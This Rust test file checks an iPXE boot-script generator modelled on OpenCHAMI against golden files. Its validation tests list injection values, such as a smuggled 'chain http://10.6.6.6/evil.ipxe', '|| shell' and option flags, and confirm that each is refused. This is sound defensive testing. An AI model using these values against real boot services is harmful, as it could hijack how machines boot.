//! Golden files for every boot-script variant. The expected texts follow OpenCHAMI BSS
//! (`buildBootScript`, `unknownBootScript`, the trailing newline of `BootscriptGet`).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use skyport_ipxe::*;
use skyport_model::Mac;

fn golden(name: &str, got: &str) {
    let path = format!("{}/tests/golden/{name}", env!("CARGO_MANIFEST_DIR"));
    if std::env::var_os("SKYPORT_UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, got).unwrap();
    }
    let want = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    assert_eq!(got, want, "{name} differs from its golden file");
}

fn settings() -> Settings {
    Settings {
        advertise: Some("http://10.0.0.1:27779/cloud-init".into()),
        chain_base: "http://10.0.0.1:27779".into(),
        ..Settings::default()
    }
}

fn mac() -> Mac {
    Mac::parse("52:54:00:12:34:56").unwrap()
}

fn boot(kernel: &str, initrd: Option<&str>, params: &str) -> Boot {
    Boot {
        kernel: kernel.into(),
        initrd: initrd.map(Into::into),
        params: params.into(),
    }
}

fn identity(xname: &str, nid: Option<i64>, boot_mac: Option<Mac>) -> Identity {
    Identity {
        xname: Some(xname.into()),
        nid,
        boot_mac,
    }
}

#[test]
fn known_node_by_mac_with_initrd() {
    let boot = boot(
        "http://10.0.0.1:27779/images/vmlinuz",
        Some("http://10.0.0.1:27779/images/initrd.img"),
        "console=tty0 console=ttyS0,115200n8 root=live:http://10.0.0.1/root.squashfs",
    );
    let id = identity("x1000c0s0b0n0", Some(1), Some(mac()));
    golden(
        "known-mac-initrd.ipxe",
        &known(&boot, &id, &ChainKey::Mac(mac()), 0, &settings()).unwrap(),
    );
}

#[test]
fn known_node_by_name_without_initrd_retrying() {
    let boot = boot("http://10.0.0.1/k", None, "quiet");
    let id = identity("x1000c0s0b0n1", Some(2), None);
    let s = known(
        &boot,
        &id,
        &ChainKey::Name("x1000c0s0b0n1".into()),
        3,
        &Settings::default(),
    )
    .unwrap();
    golden("known-name-no-initrd.ipxe", &s);
}

#[test]
fn existing_params_are_not_repeated_and_initrd_token_is_replaced() {
    let params =
        " initrd=other.img xname=custom nid=77 ds=override;s=x BOOTIF=01-aa-bb-cc-dd-ee-ff ";
    let boot = boot("http://10.0.0.1/k", Some("http://10.0.0.1/i"), params);
    let id = identity("x1c0s0b0n0", Some(5), Some(mac()));
    golden(
        "known-existing-params.ipxe",
        &known(&boot, &id, &ChainKey::Nid(5), 0, &settings()).unwrap(),
    );
}

#[test]
fn bss_2024_expectation() {
    // The upstream test expectation quoted in ../shared/reference/openchami-api.md.
    let boot = boot(
        "https://testkerneluri1.tld",
        Some("https://testinitrduri1.tld"),
        "console=tty0 console=ttyS0,115200n8",
    );
    let id = identity("x0c0s1b0", None, None);
    let s = Settings {
        advertise: Some("localhost".into()),
        ..Settings::default()
    };
    let script = known(&boot, &id, &ChainKey::Name("x0c0s1b0".into()), 0, &s).unwrap();
    assert_eq!(
        script.lines().nth(1).unwrap(),
        "kernel --name kernel https://testkerneluri1.tld initrd=initrd console=tty0 console=ttyS0,115200n8 xname=x0c0s1b0 ds=nocloud-net;s=localhost/ || goto boot_retry"
    );
}

#[test]
fn unknown_nodes() {
    golden(
        "unknown-mac.ipxe",
        &unknown(Some(&ChainKey::Mac(mac())), 1795500000, &settings()),
    );
    golden(
        "unknown-nokey.ipxe",
        &unknown(None, 1795500000, &Settings::default()),
    );
}

#[test]
fn error_scripts_print_and_retry() {
    let s = error_script(
        "storage unavailable: DynamoDB timed out || reboot; ${evil}\nboot",
        Some(&ChainKey::Mac(mac())),
        0,
        &settings(),
    );
    golden("error-storage.ipxe", &s);
}

#[test]
fn unsafe_values_are_refused() {
    #[rustfmt::skip]
    let values = [
        (Slot::Params, "quiet\nchain http://evil/", false),
        (Slot::Params, "quiet || shell", false),
        (Slot::Params, "quiet && shell", false),
        (Slot::Params, "root=${root-path}", false),
        (Slot::Params, "a\tb", false),
        (Slot::Kernel, "http://x/k extra", false),
        (Slot::Kernel, "", false),
        (Slot::Initrd, ":boot_retry", false),
        (Slot::Kernel, "http://x/k\r", false),
        // Found by hostile testing: `;` runs a second command, `#` drops xname=, nid=, BOOTIF=,
        // ds= and the retry.
        (Slot::Params, "console=ttyS0 ; chain http://10.6.6.6/evil.ipxe #", false),
        (Slot::Params, "quiet #", false),
        (Slot::Params, "quiet #rest", false),
        (Slot::Params, ";", false),
        (Slot::Params, "a\u{b}b", false),
        (Slot::Params, "a\u{c}b", false),
        (Slot::Params, "quiet caf\u{e0}", false),
        // Options of iPXE's `kernel` command and other non-URLs in the URL slots.
        (Slot::Kernel, "--name=evil", false),
        (Slot::Kernel, "--autofree", false),
        (Slot::Initrd, "-n", false),
        (Slot::Kernel, "vmlinuz", false),
        (Slot::Kernel, "http://", false),
        (Slot::Kernel, "/", false),
        (Slot::Kernel, "#http://x/k", false),
        (Slot::Kernel, "javascript:alert(1)", false),
        // Safe: separators inside a word are plain text to iPXE.
        (Slot::Params, "console=ttyS0,115200n8 ds=nocloud-net;s=http://a/ ip=dhcp", true),
        (Slot::Params, "a||b c&&d e;f g#h", true),
        (Slot::Kernel, "http://x/k#frag;x", true),
        (Slot::Kernel, "HTTPS://x/k", true),
        (Slot::Kernel, "tftp://10.0.0.1/vmlinuz", true),
        (Slot::Kernel, "/boot/vmlinuz", true),
        (Slot::Kernel, "image:demo-1-x86_64-kernel", true),
        (Slot::Initrd, "s3://boot-images/initrd", true),
    ];
    for (slot, v, safe) in values {
        let verdict = if safe { "refused" } else { "accepted" };
        assert_eq!(
            check_value(slot, v).is_ok(),
            safe,
            "{v:?} {verdict} for {slot:?}"
        );
    }
    let boot = boot("http://x/k", None, "a\nchain http://evil");
    assert!(
        known(
            &boot,
            &Identity::default(),
            &ChainKey::Nid(1),
            0,
            &Settings::default()
        )
        .is_err()
    );
}

/// An unknown node that sent its architecture boots the `Unknown-<arch>` parameters: no
/// xname=, nid= or BOOTIF= (nothing is known of it), and it chains back as unknown, with its
/// architecture and the time stamp (BSS `unknownBootScript` → `buildBootScript`).
#[test]
fn unknown_node_of_an_architecture_boots_its_discovery_image() {
    let boot = boot(
        "http://10.0.0.1/discovery/vmlinuz",
        Some("http://10.0.0.1/discovery/initrd"),
        "console=ttyS0 discovery",
    );
    let s = unknown_boot(
        &boot,
        Some(&ChainKey::Mac(mac())),
        1_765_000_000,
        &settings(),
    )
    .unwrap();
    golden("unknown-arch-mac.ipxe", &s);
}

// ---- boot-service (OpenCHAMI v0.2) ----------------------------------------------------------
// `fabrica-known.ipxe` and `fabrica-minimal.ipxe` are the reference's own examples
// (`openchami-v0.2.md` §2.6, from `DefaultIPXETemplate`), written by hand, not generated.

fn v02_node() -> fabrica::Node {
    fabrica::Node {
        xname: "x1000c0s0b0n0".into(),
        nid: Some(1),
        role: "Compute".into(),
        groups: vec!["compute".into()],
        boot_mac: Some(Mac::parse("52:54:00:be:ef:01").unwrap()),
    }
}

fn v02_config(initrd: bool, params: &str) -> fabrica::Config {
    fabrica::Config {
        name: "compute-default".into(),
        kernel: "http://172.16.0.254:7070/boot-images/vmlinuz".into(),
        initrd: initrd.then(|| "http://172.16.0.254:7070/boot-images/initramfs.img".into()),
        params: params.into(),
    }
}

#[test]
fn boot_service_script_is_upstreams_example() {
    let c = v02_config(
        true,
        "root=live:http://172.16.0.254:7070/boot-images/compute.squashfs ip=dhcp",
    );
    golden(
        "fabrica-known.ipxe",
        &fabrica::script(&c, &v02_node()).unwrap(),
    );
}

#[test]
fn boot_service_script_without_initrd_params_or_groups() {
    let mut node = v02_node();
    node.boot_mac = None;
    node.groups.clear();
    let got = fabrica::script(&v02_config(false, ""), &node).unwrap();
    golden("fabrica-no-initrd.ipxe", &got);
    // Upstream's line structure: no `set initrd`/`set params`, a bare `kernel ${kernel}`
    // followed by a blank line and the boot lines.
    assert!(got.contains("# Role: Compute\n"), "{got}");
    assert!(
        got.contains("kernel ${kernel}\n\n# Boot the system\n"),
        "{got}"
    );
    assert!(
        !got.contains("set params") && !got.contains("initrd"),
        "{got}"
    );
}

#[test]
fn boot_service_minimal_and_error_scripts() {
    golden(
        "fabrica-minimal.ipxe",
        &fabrica::minimal("52:54:00:be:ef:01"),
    );
    let asked = fabrica::Asked::Mac(Mac::parse("52:54:00:be:ef:01").unwrap());
    golden(
        "fabrica-error.ipxe",
        &fabrica::error(
            "Node resolution failed: node not found for identifier 52:54:00:be:ef:01",
            Some(&asked),
            &settings(),
        ),
    );
}

#[test]
fn boot_service_script_refuses_unsafe_values_and_sanitises_names() {
    let mut c = v02_config(false, "quiet || shell");
    assert!(fabrica::script(&c, &v02_node()).is_err());
    c.params = String::new();
    c.name = "evil\nshell ${x}".into();
    let got = fabrica::script(&c, &v02_node()).unwrap();
    assert!(got.contains("# Configuration: evil?shell ??x?\n"), "{got}");
}
